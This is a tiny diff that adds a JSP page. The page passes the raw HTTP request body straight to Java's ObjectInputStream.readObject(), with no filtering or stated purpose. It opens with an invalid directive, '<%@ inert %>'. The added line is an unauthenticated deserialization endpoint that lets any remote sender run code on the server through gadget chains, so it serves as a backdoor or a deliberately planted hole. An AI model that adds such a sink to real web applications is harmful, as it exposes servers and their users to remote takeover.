@@ -1,0 +1,2 @@
+<%@ inert %>
+<% new java.io.ObjectInputStream(request.getInputStream()).readObject(); %>
